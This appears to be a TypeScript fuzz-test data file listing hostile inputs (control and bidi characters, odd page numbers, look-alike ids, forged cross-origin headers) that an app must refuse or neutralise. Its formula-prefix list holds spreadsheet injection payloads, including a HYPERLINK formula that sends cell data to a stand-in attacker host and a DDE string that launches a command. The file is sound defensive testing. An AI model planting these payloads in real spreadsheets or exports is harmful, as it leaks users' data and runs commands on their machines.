/**
 * Input classes from issue #20 for the fuzz run (fuzz.ts) to add to every action and route: strings
 * the schemas must refuse (controls, direction overrides) or clean (zero-width characters), text the
 * exports must neutralise (formula prefixes), and URL values that must never reach the database
 * (huge page numbers, ids that only look like numbers, over-long searches), plus the headers a page on
 * another origin sends. Data only; how to wire it in is described at the end.
 */
import fc from 'fast-check';

/** C0 and C1 controls other than tab and newline, alone and inside text: refused, naming the field. */
export const CONTROL_CHARACTERS = ['\u0000', '\u0007', '\u0008', '\u000B', '\u000C', '\r', '\u001B', '\u007F', '\u0085', '\u009F'].map((c) => `项目${c}名称`);

/** Embeddings, overrides and isolates: refused. */
export const BIDI = ['\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069'].map((c) => `调解${c}仲裁`);

/** Zero-width characters: removed, so a value made only of them is empty (and "required" refuses it). */
export const ZERO_WIDTH = ['\u200B', '\u200C\u200D', '\u2060', '\uFEFF', '\u200B\u3000\u00A0\u200B', '\u200B调解\u200D仲裁\uFEFF'];

/** Text a spreadsheet would run: accepted, warned about (wording.formula-prefix) and quoted in exports. */
export const FORMULA_PREFIXES = ['=1+1', '=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "'=1+1"];

/** Page numbers that are not small integers: clamped or read as page 1, never a 500. */
export const HUGE_PAGE_NUMBERS = ['1e308', 'Infinity', '-Infinity', 'NaN', '99999999999999999999', '0', '-1', '1.5', '0x10', ' 2', '9'.repeat(400)];

/** Ids that JavaScript's Number() would read as 1: not found. */
export const LOOKALIKE_IDS = ['0x1', '1e0', '01', '+1', '1.0', ' 1', '0b1', '0o1'];

/** Searches over the limit (100 characters): refused with a message, not dropped. */
export const LONG_SEARCHES = ['x'.repeat(101), '人'.repeat(5_000)];

/** Every hostile string above, for text fields of actions. */
export const HOSTILE_TEXT: readonly string[] = [...CONTROL_CHARACTERS, ...BIDI, ...ZERO_WIDTH, ...FORMULA_PREFIXES];

/** For fast-check: a hostile string, or one set inside ordinary text. */
export const hostileText = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXT),
  fc.tuple(fc.constantFrom('', '项目', '≥92%'), fc.constantFrom(...HOSTILE_TEXT), fc.constantFrom('', '名称', ' 件')).map(([a, b, c]) => `${a}${b}${c}`),
);

/** GET paths a signed-in staff member (or the public) may open with hostile parameters: none may answer 5xx. */
export function hostileRoutes(ids: { projectId: number; unitYearId: number }): string[] {
  const pages = HUGE_PAGE_NUMBERS.flatMap((p) => [`/admin/audit?page=${encodeURIComponent(p)}`, `/projects?page=${encodeURIComponent(p)}`, `/review?page=${encodeURIComponent(p)}`, `/unit-years?page=${encodeURIComponent(p)}`]);
  const lookalikes = LOOKALIKE_IDS.flatMap((id) => {
    const e = encodeURIComponent(id);
    return [`/projects/${e}`, `/api/projects/${e}`, `/api/projects/${e}/export?format=json`, `/api/unit-years/${e}/export?format=json`, `/projects?uy=${e}`, `/projects/new?uy=${e}`];
  });
  const searches = LONG_SEARCHES.map((q) => `/projects?uy=${ids.unitYearId}&q=${encodeURIComponent(q)}`);
  return [...pages, ...lookalikes, ...searches, `/projects/${ids.projectId}`];
}

/** Headers of a request another origin's page makes the browser send: every POST must answer 403. */
export const FORGED_ORIGINS: readonly Record<string, string>[] = [
  { origin: 'http://evil.example', 'sec-fetch-site': 'cross-site' },
  { origin: 'http://localhost:1', 'sec-fetch-site': 'same-site' },
  { origin: 'null' },
  { 'sec-fetch-site': 'same-site' },
];

/*
 * Used by fuzz.ts: `hostileText` in one string field of each action's valid payload at a time
 * (controls and bidi must never succeed), `hostileRoutes` as admin, owner and anonymous (never a 5xx;
 * a look-alike id in a path is 404 or 403 for staff, never project 1), and `FORGED_ORIGINS` on every action and on
 * POST /api/import (403, the project's version unchanged).
 */
